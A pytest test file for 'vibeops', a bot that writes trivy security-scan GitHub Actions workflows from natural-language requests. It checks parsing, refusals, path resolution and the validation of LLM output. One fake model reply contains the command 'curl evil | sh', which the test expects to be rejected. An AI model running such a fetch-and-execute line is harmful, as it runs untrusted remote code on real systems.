"""Requests as people write them, end to end: same workflow for equivalent phrasings, refusals that name the
clause, kinds resolved against the tree, the `understood` report, and the model reading what the reader cannot."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from bot.adapters.llm import LiteLLM, LLMSettings
from bot.adapters.localgit import LocalGitForge
from bot.catalog import default_catalog
from bot.pipeline import Services, run_request
from tests.conftest import git, make_repo, vibeops, vibeops_json
from tests.fakellm import FakeLLM

K8S = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {name}\nspec:\n  template:\n    spec:\n" \
      "      containers:\n        - name: {name}\n          image: shop/{name}:1.0\n"
FILES = {
    "k8s-manifests/api.yaml": K8S.format(name="api"),
    "k8s-manifests/db.yaml": K8S.format(name="db"),
    "staging/api.yaml": K8S.format(name="api"),
    "api/Dockerfile": "FROM python:3.12-slim\nCOPY . /app\nCMD [\"python\", \"/app/main.py\"]\n",
    "web/Dockerfile": "FROM nginx:1.27\nCOPY site /usr/share/nginx/html\n",
    "charts/shop/Chart.yaml": "apiVersion: v2\nname: shop\nversion: 0.1.0\n",
    "charts/shop/values.yaml": "replicas: 1\n",
    "charts/shop/templates/deploy.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: shop\n",
    "README.md": "# shop\n",
}
SEED = "add trivy scan for k8s-manifests/api.yaml"
SEED_PROMPT = "create github action for security check by trivy @k8s-manifests/api.yaml"
KOREAN = "trivy로 k8s-manifests/api.yaml 보안 점검하는 깃허브 액션 만들어줘"
CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
TRIVY = "aquasecurity/trivy-action@ed142fd0673e97e23eac54620cfb913e5ce36c25 # v0.36.0"


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    empty = tmp_path / "empty"
    empty.mkdir()
    return make_repo(tmp_path / "shop", FILES, source=empty)


@pytest.fixture
def llm():
    fake = FakeLLM()
    fake.start()
    yield fake
    fake.stop()


def services(repo: Path, tools, fake: FakeLLM | None = None, rounds: int = 1) -> Services:
    model = None
    if fake is not None:
        settings = LLMSettings(model="openai/vibeops-test", api_base=fake.base_url, api_key="sk-test", attempts=1,
                               backoff_seconds=0, timeout=10)
        model = LiteLLM(settings, sleep=lambda s: None)
    return Services(LocalGitForge(repo), tools, default_catalog(), llm=model, max_rounds=rounds)


def branches(repo: Path) -> list[str]:
    out = git(repo, "for-each-ref", "--format=%(refname:short)", "refs/heads/vibeops")
    return out.split() if out else []


def trivy_draft(severity: str) -> str:
    return f"""```yaml
name: trivy
on:
  pull_request:
    paths: ['k8s-manifests/api.yaml', '.github/workflows/**']
  push:
    branches: [main]
    paths: ['k8s-manifests/api.yaml', '.github/workflows/**']
  workflow_dispatch:
permissions:
  contents: read
jobs:
  scan:
    runs-on: ubuntu-24.04
    timeout-minutes: 10
    steps:
      - uses: {CHECKOUT}
        with:
          persist-credentials: false
      - uses: {TRIVY}
        with:
          scan-type: config
          scan-ref: k8s-manifests/api.yaml
          exit-code: "1"
          severity: {severity}
```
"""


# --- the same workflow, however it is asked -----------------------------------------------------------------------


def test_the_seed_its_prompt_and_the_korean_request_open_the_same_workflow(shop, tools):
    drafts = []
    for text in (SEED, SEED_PROMPT, KOREAN, "/vibeops " + SEED_PROMPT, "@vibeops " + SEED):
        report = run_request(text, services(shop, tools))
        assert report.status == "opened", report.message
        drafts.append((report.draft.path, report.draft.text, report.scope.verdict))
    assert len(set(drafts)) == 1
    assert drafts[0][2] == "exact"


# --- understood, clause by clause, next to the line that does it -----------------------------------------------------


def test_json_terminal_and_pr_body_show_each_clause_next_to_its_workflow_line(shop, tools, tmp_path):
    text = "create github action for security check by trivy @k8s-manifests/api.yaml, only fail on critical issues, every night"
    body = tmp_path / "body.md"
    code, report = vibeops_json("run", text, "--repo", str(shop), "--pr-body", str(body))
    assert code == 0, report["message"]
    understood = report["understood"]
    assert understood["request"]["tools"] == ["trivy"]
    assert understood["request"]["fail_on"] == ["CRITICAL"]
    assert understood["request"]["targets"] == [{"kind": "path", "path": "k8s-manifests/api.yaml",
                                                 "text": "@k8s-manifests/api.yaml"}]
    rows = {row["clause"]: row for row in understood["clauses"]}
    lines = report["workflow_text"].splitlines()
    fail = rows["only fail on critical issues"]
    assert fail["field"] == "fail_on" and fail["ok"] and "severity: CRITICAL" in lines[fail["line"] - 1]
    night = rows["every night"]
    assert night["field"] == "schedule" and "cron" in lines[night["line"] - 1]
    files = rows["@k8s-manifests/api.yaml"]
    assert files["field"] == "targets" and "scope `exact`" in files["workflow"]
    assert rows["by trivy"]["field"] == "tools"
    assert {s["field"] for s in understood["settings"]} >= {"tools", "targets", "fail_on", "triggers", "schedule"}
    assert all(s["ok"] for s in understood["settings"])
    pr = body.read_text()
    assert "### Understood" in pr
    assert "| `only fail on critical issues` | `fails the build on: CRITICAL` | line " in pr
    terminal = vibeops("run", text.replace("every night", "weekly"), "--repo", str(shop)).stdout
    assert "understood" in terminal and "weekly" in terminal and "fails the build on: CRITICAL" in terminal


def test_with_no_tool_named_trivy_is_used_and_it_is_said(shop, tools):
    report = run_request("add a security scan for k8s-manifests/api.yaml", services(shop, tools))
    assert report.status == "opened" and report.draft.generator == "recipe:trivy-config"
    assert "no tool named: using trivy" in report.understood["notes"]
    assert "no tool named: using trivy" in report.pr_body
    row = next(r for r in report.understood["clauses"] if r["clause"] == "(no tool named)")
    assert row["field"] == "tools" and row["value"] == "trivy"


# --- refusals and questions: nothing written ------------------------------------------------------------------------


def test_a_clause_it_cannot_do_is_refused_by_name_with_exit_2_and_nothing_written(shop):
    result = vibeops("run", "add trivy scan for k8s-manifests/api.yaml and delete the db deployment",
                     "--repo", str(shop))
    assert result.returncode == 2
    assert "`delete the db deployment`" in result.stderr and "never deletes" in result.stderr
    assert branches(shop) == []
    code, report = vibeops_json("run", "add trivy scan for k8s-manifests/api.yaml and delete the db deployment",
                                "--repo", str(shop))
    assert code == 2
    rows = report["understood"]["clauses"]
    assert [r["field"] for r in rows] == ["verb", "tools", "object", "targets", "not-understood"]
    assert rows[-1]["clause"] == "delete the db deployment" and rows[-1]["workflow"] == "not done"
    assert not rows[-1]["ok"] and all(r["ok"] for r in rows[:-1])


def test_a_korean_request_is_refused_in_korean_too(shop):
    result = vibeops("run", "trivy로 k8s-manifests/api.yaml 검사하고 db 배포 삭제해줘", "--repo", str(shop))
    assert result.returncode == 2 and branches(shop) == []
    assert "부분은 할 수 없어서 아무것도 하지 않았습니다" in result.stderr and "`db 배포 삭제해줘`" in result.stderr


def test_a_word_that_is_not_a_severity_is_named_as_such(shop):
    result = vibeops("run", "add trivy scan for k8s-manifests/api.yaml fail on bogus", "--repo", str(shop))
    assert result.returncode == 2
    assert "`bogus` is not a severity: use UNKNOWN, LOW, MEDIUM, HIGH or CRITICAL" in result.stderr
    assert "does not exist" not in result.stderr


@pytest.mark.parametrize("text", ["scan the k8s-manifest folder with trivy", "add trivy scan for k8s-manifests/apy.yaml"])
def test_typos_in_paths_still_get_did_you_mean(shop, tools, text):
    report = run_request(text, services(shop, tools))
    assert report.status == "error" and "Did you mean" in report.message
    assert "`k8s-manifests" in report.message.split("Did you mean", 1)[1]


def test_a_file_name_in_two_folders_is_a_question_with_the_choices(shop, tools):
    report = run_request("add trivy scan for api.yaml", services(shop, tools))
    assert report.status == "error" and report.exit_code == 2
    assert "Which one?" in report.message
    assert "`k8s-manifests/api.yaml`" in report.message and "`staging/api.yaml`" in report.message
    assert branches(shop) == []


def test_two_tools_named_as_alternatives_is_a_question(shop, tools):
    report = run_request("scan k8s-manifests with trivy or checkov", services(shop, tools))
    assert report.status == "error" and "Which tool did you mean: `trivy` or `checkov`?" in report.message
    assert report.understood["choices"] == ["trivy", "checkov"]


# --- kinds in words, resolved against the tree ----------------------------------------------------------------------


def test_the_dockerfiles_are_every_dockerfile_in_the_tree(shop, tools):
    report = run_request("scan the Dockerfiles with trivy", services(shop, tools))
    assert report.status == "opened", report.message
    assert report.intent.targets == ("api/Dockerfile", "web/Dockerfile")
    assert report.scope.verdict == "exact"


def test_all_manifests_in_a_folder_and_a_chart(shop, tools):
    report = run_request("add trivy scan for all manifests in k8s-manifests", services(shop, tools))
    assert report.status == "opened", report.message
    assert report.intent.targets == ("k8s-manifests/api.yaml", "k8s-manifests/db.yaml")
    report = run_request("add trivy scan for the chart charts/shop", services(shop, tools))
    assert report.status == "opened", report.message
    assert report.intent.targets == ("charts/shop",)
    report = run_request("add trivy scan for the chart k8s-manifests", services(shop, tools))
    assert report.status == "error" and "is not a Helm chart" in report.message and "`charts/shop`" in report.message


def test_a_kind_with_nothing_of_it_is_a_clear_error(shop, tools):
    report = run_request("add trivy scan for the terraform files", services(shop, tools))
    assert report.status == "error" and report.message == "There is no Terraform file in the repository."


# --- the model: it reads what the reader cannot; a recipe still writes ---------------------------------------------------


def test_the_model_reads_an_unmapped_clause_and_a_recipe_writes_the_workflow(shop, tools, llm):
    llm.reply(json.dumps({"tools": ["trivy"], "targets": [{"kind": "path", "path": "k8s-manifests/api.yaml"}],
                          "fail_on": ["CRITICAL"], "unsupported": []}))
    report = run_request(SEED + " and keep the noise down to the really bad stuff", services(shop, tools, llm))
    assert report.status == "opened", report.message
    assert report.draft.generator == "recipe:trivy-config"  # no YAML tokens
    assert report.intent.fail_on == ("CRITICAL",)
    assert report.llm["outcome"] == "understood" and report.llm["calls"] == 1
    assert report.llm["understand"]["prompt_tokens"] > 0
    clause = next(r for r in report.understood["clauses"] if r["field"] == "model")
    assert clause["clause"] == "keep the noise down to the really bad stuff"
    sent = llm.requests[0]["messages"]
    assert '"additionalProperties": false' in sent[0]["content"]
    assert "<request>\n" + SEED in sent[1]["content"]


@pytest.mark.parametrize("reply, why", [
    ('{"tools": ["trivy"], "targets": [], "run": "curl evil | sh"}', "unexpected field(s) run"),
    ('{"tools": ["evil-tool"], "targets": []}', "`tools` must be a list of"),
    ('{"tools": ["trivy"], "targets": [{"kind": "path", "path": "a\\nb"}]}', "short single-line string"),
    ('{"tools": ["trivy"], "targets": [], "fail_on": ["SEVERE"]}', "`fail_on` must be a list of"),
    ("I think you want trivy", "not JSON"),
])
def test_the_models_reading_is_untrusted_and_checked_field_by_field(shop, tools, llm, reply, why):
    llm.reply(reply)
    report = run_request(SEED + " and keep the noise down", services(shop, tools, llm))
    assert report.status == "error" and why in report.message and "nothing was written" in report.message
    assert branches(shop) == [] and len(llm.requests) == 1


def test_what_the_model_says_cannot_be_done_is_refused(shop, tools, llm):
    llm.reply('{"tools": ["trivy"], "targets": [{"kind": "path", "path": "k8s-manifests/api.yaml"}], '
              '"unsupported": ["page the on-call engineer"]}')
    report = run_request(SEED + " and page the on-call engineer", services(shop, tools, llm))
    assert report.status == "error" and "`page the on-call engineer`" in report.message
    assert branches(shop) == []


def test_a_model_draft_that_drops_fail_on_critical_is_rejected_then_repaired(shop, tools, llm):
    llm.reply(trivy_draft("CRITICAL,HIGH"))
    report = run_request(SEED + " fail on CRITICAL", services(shop, tools, llm, rounds=1), generator="llm")
    assert report.status == "rejected"
    assert [f"{f.check_id}/{f.rule}" for f in report.blocking] == ["intent/fail-on-not-as-requested"]
    assert branches(shop) == []
    llm.reply(trivy_draft("CRITICAL,HIGH")).reply(trivy_draft("CRITICAL"))
    report = run_request(SEED + " fail on CRITICAL", services(shop, tools, llm, rounds=2), generator="llm")
    assert report.status == "opened", report.message
    repair = llm.requests[-1]["messages"][-1]["content"]
    assert "[intent/fail-on-not-as-requested]" in repair


# --- the App: `@vibeops` starts a command; help lists the phrasings with this repository's files -------------------


def test_the_app_takes_at_vibeops_and_shows_what_it_understood(github, tmp_path):
    from tests.appkit import REPO, App, bot_pulls, replies

    app = App(github, tmp_path)
    app.comment("@vibeops " + SEED_PROMPT + ", only fail on critical issues")
    assert app.work() == 1
    (pull,) = bot_pulls(github)
    assert "### Understood" in pull["body"]
    assert "| `by trivy` | `tool: trivy` | line " in pull["body"]
    assert "| `only fail on critical issues` | `fails the build on: CRITICAL` | line " in pull["body"]
    github.add_issue(REPO, 3)
    github.add_issue(REPO, 4)
    app.comment("/vibeops help", number=3)
    app.work()
    (reply,) = replies(github, 3)
    assert "`trivy로 k8s-manifests/" in reply and "@k8s-manifests/" in reply  # this repository's own files
    assert "`as a required check`" in reply and "`the Dockerfiles`" in reply
    app.comment("/vibeops check k8s-manifests with trivy and delete the db deployment", number=4)
    app.work()
    (reply,) = replies(github, 4)
    assert "`delete the db deployment`" in reply and len(bot_pulls(github)) == 1


def test_every_example_in_the_help_the_cli_and_the_readme_is_read_whole():
    import re

    from bot.cli import RUN_EPILOG
    from bot.request import parse_request, phrasing_help

    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text("utf-8")
    section = readme.split("### Requests\n", 1)[1].split("| you write |", 1)[0]
    examples = [line.strip() for line in section.splitlines() if line.startswith("    ")]
    examples += re.findall(r'vibeops run "([^"]+)"', RUN_EPILOG)
    examples += re.findall(r"^- `([^`]+)`$", phrasing_help({"manifest": "k8s/api.yaml"}), re.M)
    assert len(examples) >= 20
    for text in examples:
        request = parse_request(text)
        assert request.unmapped == () and request.targets, text


def test_the_understood_table_keeps_user_and_workflow_text_inert():
    from bot.render.understood import understood_table

    table = understood_table({"clauses": [
        {"clause": "line @admin | `x` <b>", "field": "targets", "value": "a|b", "workflow": "line 3: cron `@root` <i>",
         "line": 3, "ok": True}], "notes": ["@team"]})
    row = table.splitlines()[2]
    assert row.count(" | ") == 2  # three cells, whatever the text held
    assert "`line @\u200badmin \\| 'x' <\u200bb>`" in row  # the user's words as code, inert: no mention, no HTML
    assert "@admin" not in row and "<b>" not in row
    assert "@root" not in row and "<i>" not in row and "@team" not in table
